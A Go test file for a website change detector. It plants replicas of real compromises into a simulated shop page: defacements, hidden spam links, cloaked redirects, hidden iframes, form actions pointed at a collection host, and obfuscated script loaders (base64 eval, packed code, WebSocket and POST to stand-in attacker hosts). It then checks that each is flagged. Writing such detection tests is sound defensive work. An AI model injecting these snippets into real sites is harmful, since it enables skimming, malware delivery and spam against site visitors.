package pagechange

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// harm is what somebody does to a page, and the variant that tells it.
type harm struct {
	variant string
	who     visitor // the only one who sees it, "" for all
	do      func(s *site)
}

const spamFarm = `<a href="http://farm-$.example/">site $</a> `

// harmful are replicas of what was done to real pages: the kinds that JPCERT/CC, IPA, Sucuri and Google describe.
var harmful = map[string]harm{
	"defaced_hacked_by": {variantDefaced, "", func(s *site) {
		*s = site{lang: "en", title: "HaCkEd By Xyz", main: `<center><h1>HaCkEd By Xyz</h1><img src="/owned.jpg"><p>Your security is low</p></center>`}
	}},
	"defaced_without_a_boast": {variantDefaced, "", func(s *site) {
		*s = site{lang: "tr", title: "Selam", main: `<h1>Selam</h1><p>Bu site bizim</p><p>Tesekkurler</p>`}
	}},
	"defaced_by_a_picture": {variantDefaced, "", func(s *site) { *s = site{title: "x", main: `<img src="/x.png">`} }},
	"defaced_same_title": {variantReplaced, "", func(s *site) {
		s.top, s.news, s.aside, s.foot, s.main = "", "", "", "", `<p>gone gone gone</p><p>nothing here</p><p>ask us for a price</p>`
	}},
	"defaced_heading_only": {variantDefaced, "", func(s *site) {
		s.main = strings.Replace(s.main, "Bowls and cups from Arita", "Hacked by Xyz Team", 1)
	}},
	"defaced_title_only": {variantDefaced, "", func(s *site) { s.title = "Defaced by 0x0" }},
	"defaced_article": {variantDefaced, "", func(s *site) {
		s.news = strings.Replace(s.news, "New glazes have arrived", "Hacked By NG689Skw", 1)
	}},
	"defaced_in_spite_of_the_word_maintenance": {variantDefaced, "", func(s *site) {
		*s = site{lang: "en", title: "Maintenance", main: `<h1>Hacked by Q</h1><p>maintenance</p>`}
	}},

	"hidden_div_of_200_links": {variantSpam, "", func(s *site) { s.after = `<div style="display:none">` + repeat(200, spamFarm) + `</div>` }},
	"links_off_screen": {variantSpam, "", func(s *site) {
		s.foot += `<div style="position:absolute; left:-9999px">` + repeat(12, spamFarm) + `</div>`
	}},
	"links_hidden_by_a_sheet": {variantSpam, "", func(s *site) {
		s.head += `<style>.zz1 {overflow: hidden; height: 0}</style>`
		s.foot += `<div class="zz1">` + repeat(30, spamFarm) + `</div>`
	}},
	"links_in_noscript": {variantSpam, "", func(s *site) { s.after = `<noscript><p>` + repeat(40, spamFarm) + `</p></noscript>` }},
	"hidden_links_to_one_host": {variantSpam, "", func(s *site) {
		s.after = `<div style="font-size:0px">` + repeat(50, `<a href="https://spam.example/p/$">p</a>`) + `</div>`
	}},
	"doorways_on_the_site": {variantSpam, "", func(s *site) {
		s.after = `<div style="text-indent:-9999px">` + repeat(60, `<a href="/index.php?item=$-cheap-bags">bags $</a>`) + `</div>`
	}},
	"doorways_that_are_folded": {variantSpam, "", func(s *site) {
		s.after = `<div style="display:none">` + repeat(60, `<a href="/togel/situs-slot-$">slot online $</a>`) + `</div>`
	}},
	"visible_casino_links": {variantSpam, "", func(s *site) {
		s.foot += `<p><a href="https://a-bet.example/">Online Casino</a> <a href="https://b-bet.example/">Slot Gacor</a></p>`
	}},
	"visible_links_to_30_sites": {variantLinks, "", func(s *site) { s.foot += repeat(30, spamFarm) }},
	"japanese_keyword_hack": {variantSpam, "", func(s *site) {
		s.lang, s.title = "ja", "スーパーコピー 時計 激安通販 N級品"
		s.main = `<main><h1>スーパーコピー時計 専門店</h1><p>ブランドコピー 送料無料 正規品と同じ品質</p></main>`
	}},
	"pharmacy_words_in_the_description": {variantSpam, "", func(s *site) {
		s.head += `<meta name="description" content="Buy cheap Viagra and Cialis online pharmacy">`
	}},
	"chinese_gambling_title":   {variantSpam, "", func(s *site) { s.title = "澳门新葡京_百家乐_博彩" }},
	"links_for_phones_only":    {variantSpam, phone, func(s *site) { s.after = `<div style="display:none">` + repeat(40, spamFarm) + `</div>` }},
	"links_for_searchers_only": {variantSpam, search, func(s *site) { s.after = `<div style="opacity:0">` + repeat(40, spamFarm) + `</div>` }},

	"frame_1x1":          {variantHidden, "", func(s *site) { s.after = `<iframe src="https://kit.example/in.php" width="1" height="1"></iframe>` }},
	"frame_display_none": {variantHidden, "", func(s *site) { s.after = `<div style="visibility:hidden"><iframe src="//kit.example/"></iframe></div>` }},
	"frame_off_screen": {variantHidden, "", func(s *site) {
		s.after = `<iframe style="position:absolute;top:-1000px" src="http://203.0.113.7/x"></iframe>`
	}},
	"frame_in_srcdoc": {variantScript, "", func(s *site) {
		s.after = `<iframe srcdoc="&lt;script src=https://kit.example/k.js&gt;&lt;/script&gt;"></iframe>`
	}},
	"frame_of_a_fake_login": {variantFrame, "", func(s *site) {
		s.main += `<iframe src="https://login.phish.example/" width="600" height="400"></iframe>`
	}},
	"object": {variantHidden, "", func(s *site) { s.after = `<object data="https://kit.example/x" width="0" height="0"></object>` }},

	"meta_refresh":                {variantRedirect, "", func(s *site) { s.head += `<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">` }},
	"meta_refresh_without_a_name": {variantRedirect, "", func(s *site) { s.head += `<meta http-equiv="Refresh" content="0;https://elsewhere.example/?a=/b">` }},
	"refresh_header":              {variantRedirect, "", func(s *site) { s.header = http.Header{"Refresh": {"0; url=https://elsewhere.example/"}} }},
	"redirect":                    {variantRedirect, "", func(s *site) { s.status, s.header = 302, http.Header{"Location": {"https://elsewhere.example/"}} }},
	"redirect_for_searchers":      {variantRedirect, search, func(s *site) { s.status, s.header = 302, http.Header{"Location": {"https://pills.example/"}} }},
	"redirect_for_phones":         {variantRedirect, phone, func(s *site) { s.status, s.header = 302, http.Header{"Location": {"https://app.example/"}} }},
	"redirect_by_a_script": {variantRedirect, "", func(s *site) {
		s.head += `<script>if(/google/.test(document.referrer))window.location.href="https://elsewhere.example/?k=1"</script>`
	}},
	"redirect_by_an_on_error": {variantRedirect, "", func(s *site) { s.after = `<img src="x" onerror="location.replace('https://elsewhere.example/')">` }},
	"base":                    {variantBase, "", func(s *site) { s.head += `<base href="https://elsewhere.example/">` }},
	"canonical":               {variantCanonical, "", func(s *site) { s.head += `<link rel="canonical" href="https://elsewhere.example/bowls">` }},

	"form_to_another_host": {variantForm, "", func(s *site) {
		s.top = strings.Replace(s.top, `action="/search"`, `action="https://collect.example/in" method="post"`, 1)
	}},
	"button_to_another_host": {variantForm, "", func(s *site) {
		s.top = strings.Replace(s.top, `<button>`, `<button formaction="//collect.example/in">`, 1)
	}},

	"script_of_a_new_host":     {variantScript, "", func(s *site) { s.head += `<script src="https://cdn-analytics.example/j.js" async></script>` }},
	"script_of_a_bare_address": {variantScript, "", func(s *site) { s.head += `<script src="http://203.0.113.9/j.js"></script>` }},
	"script_that_is_loaded": {variantScript, "", func(s *site) {
		s.after = `<script>var e=document.createElement("script"),u="https:\/\/cdn-analytics.example\/j.js";e.src=u;document.head.appendChild(e)</script>`
	}},
	"script_in_base64": {variantInline, "", func(s *site) {
		s.after = `<script>eval(atob("` + base64.StdEncoding.EncodeToString([]byte(`var s=document.createElement('script');s.src='https://cdn-analytics.example/j.js';document.head.appendChild(s)`)) + `"))</script>`
	}},
	"host_in_base64": {variantScript, "", func(s *site) {
		s.after = `<script>var k="` + base64.StdEncoding.EncodeToString([]byte(`https://cdn-analytics.example/gate`)) + `",x=new XMLHttpRequest;x.open("POST",window["at"+"ob"](k))</script>`
	}},
	"script_of_char_codes": {variantInline, "", func(s *site) {
		s.after = `<script>document.write(String.fromCharCode(` + repeat(40, "6$,") + `62))</script>`
	}},
	"script_of_escapes": {variantInline, "", func(s *site) { s.after = `<script>var a="` + strings.Repeat(`\x6a`, 40) + `";window[a](a)</script>` }},
	"packed_script": {variantInline, "", func(s *site) {
		s.after = `<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>`
	}},
	"script_with_made_up_names": {variantInline, "", func(s *site) { s.after = `<script>` + repeat(30, "var _0x1a2b$=_0x9f8e$;") + `</script>` }},
	"script_on_load":            {variantInline, "", func(s *site) { s.after = `<svg onload="eval(atob('YWxlcnQoMSk7YWxlcnQoMSk7YWxlcnQoMSk7'))"></svg>` }},
	"script_as_data": {variantScript, "", func(s *site) {
		s.after = `<script src="data:text/javascript;base64,` + base64.StdEncoding.EncodeToString([]byte(`importScripts("https://kit.example/w.js")`)) + `"></script>`
	}},
	"web_socket": {variantScript, "", func(s *site) { s.after = `<script>new WebSocket("wss://drain.example/ws")</script>` }},
	"own_tag_manager": {variantScript, "", func(s *site) {
		s.head += `<script src="https://www.googletagmanager.com/gtm.js?id=GTM-EVIL"></script>`
	}},
	"own_account_on_a_shared_host": {variantScript, "", func(s *site) {
		s.head += `<script src="https://raw.githubusercontent.com/somebody/x/main/a.js"></script>`
	}},
	"script_beside_advertisements": {variantScript, "", func(s *site) {
		s.aside = strings.Replace(s.aside, `<div class="ad">`, `<div class="ad"><script src="https://cdn-analytics.example/j.js"></script>`, 1)
	}},
	"script_for_phones_only": {variantScript, phone, func(s *site) { s.head += `<script src="https://cdn-analytics.example/j.js"></script>` }},
}

// lively is a page on which much changes by itself.
func lively(n int, random *rand.Rand) site {
	s := shop()
	s.head += `<script src="https://www.googletagmanager.com/gtm.js?id=GTM-OWN"></script>`
	network := pick(random, "ads-one.example", "ads-two.example", "ads-three.example", "ads-four.example", "ads-five.example")
	s.aside += fmt.Sprintf(`<div class="ad"><script src="https://%s/show.js?%s"></script></div><p>%d people are here</p>`, network, token(random), random.IntN(90))
	s.news += fmt.Sprintf("<p>Bowl of the day: number %c</p>", 'a'+n)
	s.foot += fmt.Sprintf(`<form method="post" action="/subscribe"><input type="hidden" name="_csrf" value="%s"></form>`, token(random))
	return s
}

func TestHarmfulChanges(t *testing.T) {
	const quiet = 6
	if len(harmful) < 20 {
		t.Errorf("%d harmful changes", len(harmful))
	}
	for name, h := range harmful {
		t.Run(name, func(t *testing.T) {
			list := watched(t, func(n int, who visitor, random *rand.Rand) site {
				s := lively(n, random)
				if (n == quiet || n == quiet+1 || n == quiet+3) && (h.who == "" || h.who == who) {
					h.do(&s)
				}
				return s
			}, quiet+4)
			for n, alarms := range list {
				is := func(a alarm) bool { return a.variant == h.variant }
				wanted := n >= quiet && n != quiet+2
				at := slices.IndexFunc(alarms, is)
				switch {
				case !wanted && len(alarms) > 0:
					t.Errorf("look %d: %s %q: %q", n+1, alarms[0].variant, alarms[0].matcher, alarms[0].after)
				case wanted && at < 0:
					t.Errorf("look %d: %d alarms, none is %s", n+1, len(alarms), h.variant)
				case wanted && n > quiet:
					first := list[quiet][max(0, slices.IndexFunc(list[quiet], is))]
					if first.matcher != alarms[at].matcher {
						t.Errorf("look %d: told as %q, before as %q", n+1, alarms[at].matcher, first.matcher)
					}
				}
				if wanted && at >= 0 && h.who != "" && alarms[at].who != h.who {
					t.Errorf("look %d: seen by %s, want %s", n+1, alarms[at].who, h.who)
				}
			}
		})
	}
}
